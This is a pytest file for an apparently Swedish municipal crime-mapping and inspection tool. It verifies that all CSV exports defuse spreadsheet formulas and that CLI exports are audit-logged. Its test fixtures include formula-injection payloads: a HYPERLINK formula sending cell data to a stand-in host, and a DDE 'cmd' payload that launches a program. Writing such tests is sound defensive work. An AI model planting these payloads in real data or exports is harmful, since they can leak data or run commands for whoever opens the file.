"""Every CSV a user can download is defused against spreadsheet formulas (issue 18), through
the real export paths: the CLI for zones, före/efter and rejected rows; the module calls the
pages use for trygghetsbesiktning and the audit log. The CLI's exports are also audited with
the operating-system user as the actor."""

from __future__ import annotations

import csv
import getpass
import io
import json

import geopandas as gpd
import pandas as pd
import pytest

from geo import audit, safecsv
from geo.cli import main
from geo.store import Store

HOSTILE = ['=HYPERLINK("http://x.se/?q="&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _assert_defused(data: bytes) -> None:
    """No cell starts a formula; the hostile texts are there, each behind an apostrophe."""
    cells = [c for row in _cells(data) for c in row]
    for cell in cells:
        assert not cell.startswith(("=", "@", "\t", "\r")), cell
        assert not cell.startswith(("+", "-")) or safecsv.defuse(cell) == cell, cell
    return cells


@pytest.fixture
def db(tmp_path, monkeypatch):
    monkeypatch.setenv("LAGESBILD_DATA_DIR", str(tmp_path / "var"))
    monkeypatch.delenv("LAGESBILD_DATABASE_URL", raising=False)
    return tmp_path


@pytest.mark.parametrize(
    "text", HOSTILE + ["\t=1", "\r=1"], ids=["eq", "plus", "minus", "at", "tab", "cr"]
)
def test_writer_defuses_each_formula_start(text):
    assert _cells(safecsv.to_csv_bytes(pd.DataFrame({"a": [text]})))[1] == ["'" + text]


def test_writer_keeps_numbers_numbers():
    frame = pd.DataFrame({"lon": ["-12.5", "+46701234567"], "n": [-3, 4], "x": [-1.5, 2.0]})
    assert _cells(safecsv.to_csv_bytes(frame))[1:] == [
        ["-12.5", "-3", "-1.5"],
        ["+46701234567", "4", "2.0"],
    ]


def test_zones_csv_from_the_cli(db, capsys):
    from test_zones_cli import _write_inputs

    inc, bnd = _write_inputs(db)
    areas = gpd.read_file(bnd)
    areas["area_id"] = HOSTILE[3]  # an area id from a boundary file names the zones
    areas.to_file(bnd)
    out = db / "zoner.csv"
    assert main(["zones", "--incidents", str(inc), "--boundaries", str(bnd), "--k", "2",
                 "--who", "=Anna", "--out", str(out)]) == 0  # fmt: skip
    cells = _assert_defused(out.read_bytes())
    assert f"'{HOSTILE[3]}-1" in cells and "'=Anna" in cells
    row = audit.audit_frame(Store(), actions=["export.zones"]).iloc[0]
    assert (row["actor"], row["role"]) == (f"cli:{getpass.getuser()}", "administratör")
    params = json.loads(row["params"])
    assert (
        params["file"] == "zoner.csv" and params["zones"] == 2 and params["created_by"] == "=Anna"
    )


def test_compare_csv_from_the_cli(db, capsys):
    from test_compare_cli import base_args, write_inputs

    paths = write_inputs(db)
    zones = gpd.read_file(paths["zones"])
    zones["name"] = HOSTILE[1]
    zones.to_file(paths["zones"])
    out = db / "fore_efter.csv"
    assert main([*base_args(paths), "--out", str(out)]) == 0
    assert "'" + HOSTILE[1] in _assert_defused(out.read_bytes())
    row = audit.audit_frame(Store(), actions=["export.compare"]).iloc[0]
    assert row["actor"] == f"cli:{getpass.getuser()}"
    assert json.loads(row["params"])["before"] == "2017-01-01:2017-12-31"


def test_rejected_rows_csv_from_the_cli(db, capsys):
    src = db / "brott.csv"
    src.write_text(
        "id,occurred_at,category,lon,lat\n"
        f"a,{HOSTILE[3]},rån,17.83,59.42\n"
        "b,2018-03-01 20:00,-2+3,17.83,59.42\n"
        "c,2018-03-01 20:00,rån,-12.5,59.42\n",
        encoding="utf-8",
    )
    out = db / "avvisade.csv"
    assert main(["validate", "incidents", str(src), "--rejected", str(out)]) == 0
    cells = _assert_defused(out.read_bytes())
    assert "'" + HOSTILE[3] in cells and "-12.5" in cells  # the number stays a number
    row = audit.audit_frame(Store(), actions=["export.rejected_rows"]).iloc[0]
    assert json.loads(row["params"])["source"] == "brott.csv"


def test_inspection_csvs(db):
    import datetime as dt

    from geo import inspections as ins

    store = Store()
    rid = ins.create_round(store, name="R", held_on=dt.date(2026, 4, 2), area_name="A",
                           created_by="anna")  # fmt: skip
    ins.create_issue(store, round_id=rid, lon=17.83, lat=59.42, category="klotter", severity=1,
                     responsible=HOSTILE[2], marked_by="anna", description=HOSTILE[0])  # fmt: skip
    data = ins.export_csv(ins.issues_frame(store))
    assert {"'" + HOSTILE[0], "'" + HOSTILE[2]} <= set(_assert_defused(data))
    src = db / "fält.csv"
    src.write_text(f"lon,lat,category,severity,responsible\n17.83,59.42,,1,{HOSTILE[3]}\n")
    result = ins.import_issues(store, src, marked_by="anna", round_id=rid)
    assert "'" + HOSTILE[3] in _assert_defused(ins.rejected_csv(result))


def test_audit_csv(db):
    store = Store()
    audit.record_export(store, HOSTILE[0], None, what="zones", fmt="csv", note=HOSTILE[1])
    cells = _assert_defused(audit.to_csv(audit.audit_frame(store)))
    assert "'" + HOSTILE[0] in cells


def test_issues_cli_by_is_a_note_not_the_actor(db, capsys):
    src = db / "fält.csv"
    src.write_text("lon,lat,category,severity,responsible\n17.83,59.42,klotter,1,SL\n")
    assert main(["issues", "import", str(src), "--new-round", "Vår", "--date", "2026-04-02",
                 "--area", "Jakobsberg", "--by", "Anna på kommunen"]) == 0  # fmt: skip
    log = audit.audit_frame(Store())
    assert set(log["actor"]) == {f"cli:{getpass.getuser()}"}
    assert set(log["role"]) == {"administratör"}
    assert all(json.loads(p)["stated_by"] == "Anna på kommunen" for p in log["params"])
